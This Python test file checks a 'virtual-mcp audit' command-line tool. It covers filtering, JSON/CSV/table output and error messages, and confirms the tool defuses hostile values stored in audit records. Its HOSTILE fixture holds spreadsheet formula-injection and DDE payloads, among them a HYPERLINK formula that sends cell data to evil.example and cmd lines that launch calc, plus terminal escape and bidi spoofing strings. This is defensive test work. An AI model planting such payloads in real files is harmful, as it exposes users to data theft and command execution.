"""`virtual-mcp audit` on a database the test fills through the gateway's own sink: filters, the three formats, and
precise errors for bad input."""

from __future__ import annotations

import csv
import io
import json
import time
from pathlib import Path

import anyio
import pytest

from tests.store_mode import state_database
from tests.test_cli import run
from virtual_mcp.audit import AuditEvent, bound
from virtual_mcp.audit_report import iso, parse_time
from virtual_mcp.vault.audit_store import AuditStore

NOW = time.time()


def event(i: int, **fields: object) -> AuditEvent:
    base: dict[str, object] = {
        "ts": NOW - 3600 + i,
        "request_id": f"{i:016x}",
        "subject": "user:alice@x.example",
        "kind": "user",
        "name": "alice@x.example",
        "teams": ("platform",),
        "endpoint": "/mcp",
        "method": "tools/call",
        "server": "g/github",
        "tool": "list_repos",
        "called": "g__github__list_repos",
        "latency_ms": 1.5,
        "auth_mode": "oauth2:authorization_code",
    }
    base.update(fields)
    return AuditEvent(**base)  # type: ignore[arg-type]


EVENTS = [
    event(0),
    event(
        1, tool="delete_repo", called="g__github__delete_repo", outcome="denied", error="not authorized for this tool"
    ),
    event(
        2,
        subject="virtualaccount:ci",
        kind="virtualaccount",
        name="ci",
        teams=(),
        server="g/sentry",
        tool="list_issues",
        called=None,
        auth_mode="header",
        forwarded_headers=("authorization",),
    ),
    event(3, subject="user:bob@x.example", name="bob@x.example", teams=("sre",), outcome="failed", error="down, a, b"),
    event(-7200, tool="old"),  # three hours ago
]


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    async def fill() -> None:
        async with state_database(tmp_path) as db:
            await AuditStore(db).write(EVENTS)

    anyio.run(fill)
    return tmp_path


def audit(data_dir: Path, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    return run(["audit", "--data-dir", str(data_dir), *args], capsys)


def ids(out: str) -> list[str]:
    return [json.loads(line)["request_id"] for line in out.splitlines()]


def test_filters(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def found(*args: str) -> list[str]:
        code, out, err = audit(data_dir, capsys, "--format", "json", *args)
        assert code == 0, err
        return ids(out)

    every = [e.request_id for e in sorted(EVENTS, key=lambda e: e.ts, reverse=True)]
    assert found() == every
    assert found("--user", "Alice@X.example") == [EVENTS[1].request_id, EVENTS[0].request_id, EVENTS[4].request_id]
    assert found("--team", "sre") == [EVENTS[3].request_id]
    assert found("--virtual-account", "ci") == [EVENTS[2].request_id]
    assert found("--server", "g/sentry") == [EVENTS[2].request_id]
    assert found("--tool", "delete_repo") == [EVENTS[1].request_id]
    assert found("--outcome", "failed") == [EVENTS[3].request_id]
    assert found("--request-id", EVENTS[2].request_id) == [EVENTS[2].request_id]
    assert found("--since", "2h") == every[:4]
    assert found("--until", "2h") == every[4:]
    assert found("--since", iso(NOW - 3600 + 1), "--until", iso(NOW - 3600 + 3)) == [
        EVENTS[2].request_id,
        EVENTS[1].request_id,
    ]
    assert found("--team", "platform", "--since", "2h") == [EVENTS[1].request_id, EVENTS[0].request_id]
    assert found("--limit", "2") == every[:2]
    assert found("--user", "nobody@x.example") == []


def test_formats(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = audit(data_dir, capsys, "--outcome", "denied", "--format", "json")
    assert code == 0
    [record] = [json.loads(line) for line in out.splitlines()]
    assert record["time"] == iso(EVENTS[1].ts) and record["time"].endswith("Z")
    assert record["error"] == "not authorized for this tool" and record["teams"] == ["platform"]

    code, out, _ = audit(data_dir, capsys, "--format", "csv", "--since", "2h")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["request_id"] for r in rows] == [e.request_id for e in reversed(EVENTS[:4])]
    assert rows[0]["error"] == "down, a, b"  # quoted, not split
    assert rows[1]["forwarded_headers"] == "authorization" and rows[1]["subject"] == "virtualaccount:ci"

    code, out, _ = audit(data_dir, capsys, "--since", "2h")
    lines = out.splitlines()
    assert lines[0].split() == ["TIME", "(UTC)", "SUBJECT", "SERVER", "TOOL", "METHOD", "OUTCOME", "MS", "DETAIL"]
    assert "user:bob@x.example" in lines[1] and lines[1].rstrip().endswith("down, a, b")
    assert len(lines) == 5
    code, out, _ = audit(data_dir, capsys, "--user", "nobody@x.example")
    assert out.splitlines()[-1] == "(no matching records)"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--since", "yesterday"], "invalid time 'yesterday': use ISO 8601"),
        (["--until", "0m"], "invalid duration '0m'"),
        (["--limit", "0"], "--limit must be a positive number"),
        (["--since", "2026"], "invalid time '2026': use ISO 8601"),  # a year-like number is not 2026 seconds
        (["--user", "a@x.example", "--virtual-account", "ci"], "not both"),
    ],
)
def test_bad_input_is_a_precise_error(
    data_dir: Path, capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    code, out, err = audit(data_dir, capsys, *args)
    assert code == 2 and out == "" and message in err


def test_parse_time_forms() -> None:
    assert parse_time("2026-11-30", 0, None) == 1795996800.0
    assert parse_time("2026-11-30T01:00+01:00", 0, None) == 1795996800.0
    assert parse_time("7d", 1_000_000.0, 7 * 86400) == 1_000_000.0 - 7 * 86400


@pytest.mark.embedded_only("a data directory without its SQLite file")
def test_a_directory_without_a_gateway_database_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nowhere"
    code, out, err = audit(missing, capsys)
    assert code == 2 and out == ""
    assert f"no gateway database in {missing} (is --data-dir the directory serve uses?)" in err
    assert not missing.exists()  # nothing was created there


# What a caller can put in a record (a tool name, a path, a method) and what it would do where the record is read.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "title": "\x1b]0;owned\x07",
    "clear": "\x1b[2J\x1b[H",
    "csi8": "\x9b31mred",
    "bidi": "evil\u202etxt.exe",
    "zero-width": "ad\u200bmin",
    "nul": "a\x00b",
    "line separator": "a\u2028b",
}


@pytest.fixture
def hostile_dir(tmp_path: Path) -> Path:
    async def fill() -> None:
        async with state_database(tmp_path) as db:
            await AuditStore(db).write(  # bounded, as every event on its way to a sink is
                [
                    bound(event(i, tool=text, error=text, request_id=key))
                    for i, (key, text) in enumerate(HOSTILE.items())
                ]
            )

    anyio.run(fill)
    return tmp_path


def raw_controls(text: str) -> list[str]:
    """Every character of `text` a terminal or a spreadsheet would act on rather than show (newlines aside)."""
    import unicodedata

    return [c for c in text if c != "\n" and (unicodedata.category(c)[0] == "C" or unicodedata.category(c) in "ZlZp")]


def test_csv_defuses_formulas_and_shows_controls(hostile_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = audit(hostile_dir, capsys, "--format", "csv")
    assert code == 0, err
    rows = {r["request_id"]: r for r in csv.DictReader(io.StringIO(out))}
    expected = {
        "formula": "'" + HOSTILE["formula"],
        "plus": "'" + HOSTILE["plus"],
        "minus": "'" + HOSTILE["minus"],
        "at": "'" + HOSTILE["at"],
        "tab": "\\t=1+1",
        "cr": "\\r=1+1",
        "title": "\\x1b]0;owned\\x07",
        "clear": "\\x1b[2J\\x1b[H",
        "csi8": "\\x9b31mred",
        "bidi": "evil\\u202etxt.exe",
        "zero-width": "ad\\u200bmin",
        "nul": "a\\x00b",
        "line separator": "a\\u2028b",
    }
    assert {key: row["tool"] for key, row in rows.items()} == expected
    assert {key: row["error"] for key, row in rows.items()} == expected
    for row in rows.values():
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    assert raw_controls(out.replace("\r\n", "\n")) == []


def test_table_and_json_show_controls_instead_of_obeying_them(
    hostile_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = audit(hostile_dir, capsys)
    assert code == 0, err
    assert raw_controls(out) == []
    assert "\\x1b]0;owned\\x07" in out and "evil\\u202etxt.exe" in out
    assert len(out.splitlines()) == len(HOSTILE) + 1  # nothing a caller sent broke a line
    code, out, err = audit(hostile_dir, capsys, "--format", "json")
    assert code == 0 and out.isascii()
    # Exact, but a NUL (no PostgreSQL text holds one) was stored as its escape, on either engine.
    exact = {**HOSTILE, "nul": "a\\x00b"}
    assert {json.loads(line)["request_id"]: json.loads(line)["tool"] for line in out.splitlines()} == exact
